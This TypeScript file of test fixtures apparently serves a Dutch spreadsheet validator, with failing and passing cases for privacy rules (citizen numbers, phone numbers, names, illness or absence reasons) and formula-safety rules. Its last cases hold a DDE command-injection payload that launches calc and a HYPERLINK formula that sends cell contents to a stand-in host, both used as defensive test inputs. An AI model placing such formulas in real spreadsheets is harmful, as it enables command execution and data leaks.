import { day } from './base';
import { set, type Example } from './example';

export const privacyExamples: readonly Example[] = [
  // 9×1 + 8×1 + 7×1 + 6×2 + 5×2 + 4×2 + 3×3 + 2×3 − 3 = 66 = 6 × 11.
  {
    code: 'privacy-bsn',
    fails: [set('assignments', 2, { remark: 'Aanvrager heeft 111222333' })],
    at: 'Opdrachten!S3',
    passes: [set('assignments', 2, { remark: 'Zaaknummer 111222334' })],
  },
  {
    code: 'privacy-bsn',
    fails: [{ table: 'team', extra: 'Kenmerk', row: 1, cell: 111222333 }],
    at: 'Team!G2',
    passes: [{ table: 'team', extra: 'Kenmerk', row: 1, cell: 12345 }],
  },
  {
    code: 'privacy-bsn',
    fails: [set('assignments', 2, { remark: 'Bewoner (123456782) belde' })],
    at: 'Opdrachten!S3',
    passes: [set('assignments', 2, { remark: 'zaaknummer 123456782, factuur nr. 111222333, € 123.456.782' })],
  },
  {
    code: 'privacy-email',
    fails: [set('assignments', 2, { client: 'p.jansen@emmen.example.nl' })],
    at: 'Opdrachten!J3',
    passes: [set('assignments', 2, { remark: '2 sessies @ gemeentehuis' })],
  },
  {
    code: 'privacy-phone',
    fails: [set('assignments', 2, { remark: 'Bel 06-12 34 56 78' })],
    at: 'Opdrachten!S3',
    passes: [set('assignments', 2, { remark: 'Van 01-02-2026 tot 03-04-2026, nr 2026-0012-345' })],
  },
  {
    code: 'privacy-phone',
    fails: [set('assignments', 2, { client: '+31 592 366 911' })],
    at: 'Opdrachten!J3',
    passes: [set('assignments', 2, { remark: 'BAG 0106100000123456' })],
  },
  {
    code: 'privacy-phone',
    fails: [set('assignments', 2, { remark: 'mobiel 06 - 12 34 56 78' })],
    at: 'Opdrachten!S3',
    passes: [set('assignments', 2, { remark: 'code 0106-2026-12' })],
  },
  {
    code: 'privacy-absence-reason',
    fails: [{ table: 'availability', extra: 'Reden', row: 1, cell: 'vakantie' }],
    at: 'Beschikbaarheid!E2',
    passes: [{ table: 'availability', extra: 'Telt mee in', row: 1, cell: 'juli' }],
  },
  {
    code: 'privacy-absence-reason',
    fails: [set('assignments', 4, { remark: 'Vertraagd door ziekte van de adviseur' })],
    at: 'Opdrachten!S5',
    passes: [set('assignments', 4, { remark: 'Overleg met het ziekenhuis' })],
  },
  {
    code: 'privacy-absence-reason',
    fails: [{ table: 'availability', extra: 'Toelichting', row: 1, cell: 'op vakantie' }],
    at: 'Beschikbaarheid!E2',
    passes: [set('assignments', 2, { remark: 'Verder na de vakantie' })],
  },
  ...['Adviseur 4 (burn-out)', 'Adviseur 4 rugklachten', 'Adviseur, ziek gemeld', 'Adviseur (WIA)'].map((member): Example => ({
    code: 'privacy-absence-reason',
    fails: [set('team', 2, { member }), set('bookings', 2, { member })],
    at: 'Team!A3',
    passes: [set('team', 2, { member: 'Adviseur ziekenhuisbouw' }), set('bookings', 2, { member: 'Adviseur ziekenhuisbouw' })],
  })),
  ...(
    [
      ['rugklachten', 'tweede helft'],
      ['in verband met verlof', 'half beschikbaar'],
      ['revalidatie', 'volgt later'],
      ['Long COVID', 'Long list'],
    ] as const
  ).map(([fails, passes]): Example => ({
    code: 'privacy-absence-reason',
    fails: [{ table: 'availability', extra: 'Toelichting', row: 1, cell: fails }],
    at: 'Beschikbaarheid!E2',
    passes: [{ table: 'availability', extra: 'Toelichting', row: 1, cell: passes }],
  })),
  ...[
    ['Wacht op herstel: contactpersoon heeft rugklachten', 'Rapport over geluidsklachten en verzuim'],
    ['Opgeschoven, adviseur heeft psychische klachten', 'Herstel van de dijk na de storm'],
  ].map(([fails, passes]): Example => ({
    code: 'privacy-absence-reason',
    fails: [set('assignments', 4, { remark: fails! })],
    at: 'Opdrachten!S5',
    passes: [set('assignments', 4, { remark: passes! })],
  })),
  {
    code: 'privacy-name',
    fails: [set('assignments', 2, { client: 'mw. J. de Vries' })],
    at: 'Opdrachten!J3',
    passes: [set('assignments', 2, { client: 'Wethouder duurzaamheid' })],
  },
  {
    code: 'privacy-name',
    fails: [set('team', 2, { member: 'Hanneke van den Berg' }), set('bookings', 2, { member: 'Hanneke van den Berg' })],
    at: 'Team!A3',
    passes: [set('team', 2, { member: 'Merel' }), set('bookings', 2, { member: 'Merel' })],
  },
  ...['Jansen, Jan', 'Pieter-Jan Hoekstra', 'Projectleider (Jan de Boer)', 'Wethouder Jansen', 'Fatima El Amrani'].map(
    (client): Example => ({
      code: 'privacy-name',
      fails: [set('assignments', 2, { client })],
      at: 'Opdrachten!J3',
      passes: [set('assignments', 2, { client: 'Projectleider De Monden' })],
    }),
  ),
  ...[
    'Bakker Advies',
    'Bureau Peters B.V.',
    'Wethouder Wonen',
    'Van der Meer Architecten',
    'Team Dorpen (Noord)',
    'Hoofd Wonen – Ruimte',
  ].map((client): Example => ({
    code: 'privacy-name',
    fails: [set('assignments', 2, { client: 'mw. J. de Vries' })],
    at: 'Opdrachten!J3',
    passes: [set('assignments', 2, { client })],
  })),
  {
    code: 'text-as-formula',
    fails: [set('assignments', 2, { remark: "=cmd|' /C calc'!A0" })],
    at: 'Opdrachten!S3',
    passes: [set('assignments', 2, { remark: '- eerst de wijkraad\n- dan de raad' })],
  },
  {
    code: 'text-as-formula',
    fails: [set('assignments', 2, { title: '+SUM(A1:A9)' })],
    at: 'Opdrachten!D3',
    passes: [set('assignments', 2, { remark: '-10% energie en +2 graden' })],
  },
  {
    code: 'formula-reaches-out',
    fails: [{ table: 'assignments', row: 2, column: 'remark', formula: '=HYPERLINK("https://voorbeeld.example/?"&A2,"klik")' }],
    at: 'Opdrachten!S3',
    passes: [
      { table: 'assignments', row: 2, column: 'hours', formula: '=SUM(M2:M4)*8' },
      set('assignments', 2, { end: day('2026-09-24') }),
    ],
  },
];
